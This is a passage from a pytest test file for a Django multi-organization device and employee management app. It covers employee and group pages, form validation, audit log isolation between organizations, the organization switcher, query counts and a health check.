    assert rows["ada@acme.test"].device_count == 1
    assert rows["grace@acme.test"].device_count == 0

    response = cockpit_client.get(url("employee_list", org, search="hopper"))
    assert [e.email for e in response.context["page"].object_list] == ["grace@acme.test"]
    response = cockpit_client.get(url("employee_list", org, status="offboarded"))
    assert list(response.context["page"].object_list) == []


def test_employee_and_group_lists_are_sorted_by_name(cockpit_client, org):
    # Both lists count related rows (GROUP BY), where Django drops Meta.ordering: the page must still sort.
    for name in ("Zed Zimmer", "Ann Archer", "Mia Moreau"):
        EmployeeFactory(organization=org, full_name=name)
    for name in ("Zeta", "Alpha", "Mu"):
        GroupFactory(organization=org, name=name)
    employees = cockpit_client.get(url("employee_list", org)).context["page"].object_list
    assert [e.full_name for e in employees] == ["Ann Archer", "Mia Moreau", "Zed Zimmer"]
    groups = cockpit_client.get(url("group_list", org)).context["page"].object_list
    assert [g.name for g in groups] == ["Alpha", "Mu", "Zeta"]


def test_employee_page_shows_devices_and_history(cockpit_client, org, employee, assigned_device):
    response = cockpit_client.get(url("employee_detail", org, employee.pk))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Ada Lovelace" in html and "ada@acme.test" in html
    assert reverse("device_detail", args=[org.slug, assigned_device.pk]) in html
    assert "CORP\\" in html  # directory login DOMAIN\user


def test_employee_create(cockpit_client, org):
    group = GroupFactory(organization=org, name="Sales")
    response = cockpit_client.post(url("employee_create", org), {
        "email": "New.Person@Acme.test", "full_name": "New Person", "username": "nperson", "domain_name": "ACME",
        "groups": [group.pk],
    })
    assert response.status_code == 302
    created = Employee.objects.get(organization=org, email="new.person@acme.test")
    assert response["Location"] == reverse("employee_detail", args=[org.slug, created.pk])
    assert list(created.groups.all()) == [group]
    assert AuditEvent.objects.filter(event="employee.created", target_id=str(created.pk)).exists()
    page = cockpit_client.get(response["Location"]).content.decode()
    assert "New Person was added." in page
    assert "added the employee New Person" in page


def test_employee_create_with_a_duplicate_email_is_a_form_error(cockpit_client, org, employee):
    response = cockpit_client.post(url("employee_create", org), {"email": "ADA@ACME.TEST", "full_name": "Copy"})
    assert response.status_code == 400
    assert response.context["form"].errors["email"] == ["An employee with the e-mail ada@acme.test already exists."]
    assert Employee.objects.filter(organization=org).count() == 1
    assert not AuditEvent.objects.filter(event="employee.created").exists()


def test_employee_create_rejects_an_invalid_email(cockpit_client, org):
    response = cockpit_client.post(url("employee_create", org), {"email": "not-an-email"})
    assert response.status_code == 400
    assert "email" in response.context["form"].errors
    assert not Employee.objects.filter(organization=org).exists()


def test_the_same_email_may_exist_in_another_organization(cockpit_client, org, other_org):
    EmployeeFactory(organization=other_org, email="ada@acme.test")
    response = cockpit_client.post(url("employee_create", org), {"email": "ada@acme.test"})
    assert response.status_code == 302
    assert Employee.objects.filter(organization=org, email="ada@acme.test").exists()


# --- groups --------------------------------------------------------------------------------------


def test_group_list_create_and_detail(cockpit_client, org, employee, device):
    response = cockpit_client.post(url("group_list", org), {"name": "Engineering", "description": "Builders"})
    assert response.status_code == 302
    group = Group.objects.get(organization=org, name="Engineering")
    employee.groups.add(group)
    device.groups.add(group)

    response = cockpit_client.get(url("group_list", org))
    assert response.status_code == 200
    row = response.context["page"].object_list[0]
    assert (row.name, row.employee_count, row.device_count) == ("Engineering", 1, 1)
    assert "The group Engineering was created." in response.content.decode()

    response = cockpit_client.get(url("group_detail", org, group.pk))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Builders" in html
    assert reverse("employee_detail", args=[org.slug, employee.pk]) in html
    assert reverse("device_detail", args=[org.slug, device.pk]) in html


def test_group_create_with_a_duplicate_name_is_a_form_error(cockpit_client, org):
    GroupFactory(organization=org, name="Engineering")
    response = cockpit_client.post(url("group_list", org), {"name": "engineering"})
    assert response.status_code == 400
    assert "already exists" in response.content.decode()
    assert Group.objects.filter(organization=org).count() == 1


def test_group_create_without_a_name_is_a_form_error(cockpit_client, org):
    response = cockpit_client.post(url("group_list", org), {"name": ""})
    assert response.status_code == 400
    assert not Group.objects.filter(organization=org).exists()


# --- audit log and organization switcher --------------------------------------------------------


def test_audit_log_page(cockpit_client, org, assigned_device, other_org):
    from core.services import group_create

    group_create(organization=other_org, name="Secret plans", actor=Actor.system("tests"))
    response = cockpit_client.get(url("audit_list", org))
    assert response.status_code == 200
    html = response.content.decode()
    assert "assigned assigned-mbp to ada@acme.test" in html
    assert "Secret plans" not in html  # another organization's entries never show
    assert {e.organization_id for e in response.context["page"].object_list} == {org.pk}

    response = cockpit_client.get(url("audit_list", org, event="device.assigned"))
    assert [e.event for e in response.context["page"].object_list] == ["device.assigned"]


def test_org_switcher_lists_the_users_organizations(client, org, other_org, admin_user):
    MembershipFactory(organization=other_org, user=admin_user, role=Membership.Role.VIEWER)
    third = MembershipFactory(role=Membership.Role.ADMIN).organization  # somebody else's organization
    client.force_login(admin_user)
    html = client.get(url("dashboard", org)).content.decode()
    switcher = html.split('id="org-switcher"', 1)[1].split("</details>", 1)[0]
    assert "Acme" in switcher and "Globex" in switcher
    assert f'href="/o/{org.slug}/"' in switcher and f'href="/o/{other_org.slug}/"' in switcher
    assert third.name not in switcher
    assert "(Admin)" in switcher

    # Home lists both organizations instead of redirecting to one of them.
    response = client.get("/")
    assert response.status_code == 200
    assert "Acme" in response.content.decode() and "Globex" in response.content.decode()
    # The role shown follows the organization.
    html = client.get(url("dashboard", other_org)).content.decode()
    assert "(Viewer)" in html.split('id="org-switcher"', 1)[1]


# --- performance and health ----------------------------------------------------------------------


def _fleet_of(org, count, actor):
    groups = [GroupFactory(organization=org) for _ in range(3)]
    employees = [EmployeeFactory(organization=org) for _ in range(5)]
    for n in range(count):
        device = DeviceFactory(organization=org)
        device.groups.add(groups[n % 3], groups[(n + 1) % 3])
        if n % 2:
            device_services.device_assign(device=device, employee=employees[n % 5], actor=actor)


def _queries_for(client, path) -> int:
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(path)
    assert response.status_code == 200
    return len(ctx.captured_queries)


def test_inventory_runs_the_same_number_of_queries_for_10_and_100_devices(cockpit_client, org):
    actor = Actor.system("tests")
    cockpit_client.get(url("device_list", org))  # the user and memberships are cached from here on
    _fleet_of(org, 10, actor)
    small = _queries_for(cockpit_client, url("device_list", org))
    _fleet_of(org, 90, actor)
    large = _queries_for(cockpit_client, url("device_list", org))
    assert small == large
    # Filters and sorting keep it constant too.
    assert _queries_for(cockpit_client, url("device_list", org, ordering="assignee", availability_status="in_use")) \
        <= large + 1


def test_healthz_reports_database_and_broker(client, db):
    response = client.get("/healthz")
    assert response.status_code == 200, response.json()
    assert response.json() == {"status": "ok", "database": "ok", "broker": "ok"}
    assert "no-cache" in response["Cache-Control"]


def test_the_top_bar_links_to_the_current_organizations_pages(client, org, other_org):
    from core.models import Membership
    from tests.conftest import member

    user = member(org, Membership.Role.ADMIN)
    Membership.objects.create(user=user, organization=other_org, role=Membership.Role.VIEWER)
    client.force_login(user)
    for organization, settings_shown in ((org, True), (other_org, False), (org, True)):
        body = client.get(f"/o/{organization.slug}/").content.decode()
        slug = organization.slug
        for path in ("devices/", "pre-assignments/", "suggestions/", "enrollment/troubleshooting/", "offboardings/"):
            assert f'href="/o/{slug}/{path}"' in body
        assert (f'href="/o/{slug}/settings/remote-management/"' in body) is settings_shown
        other = other_org.slug if organization == org else org.slug
        assert f'href="/o/{other}/devices/"' not in body
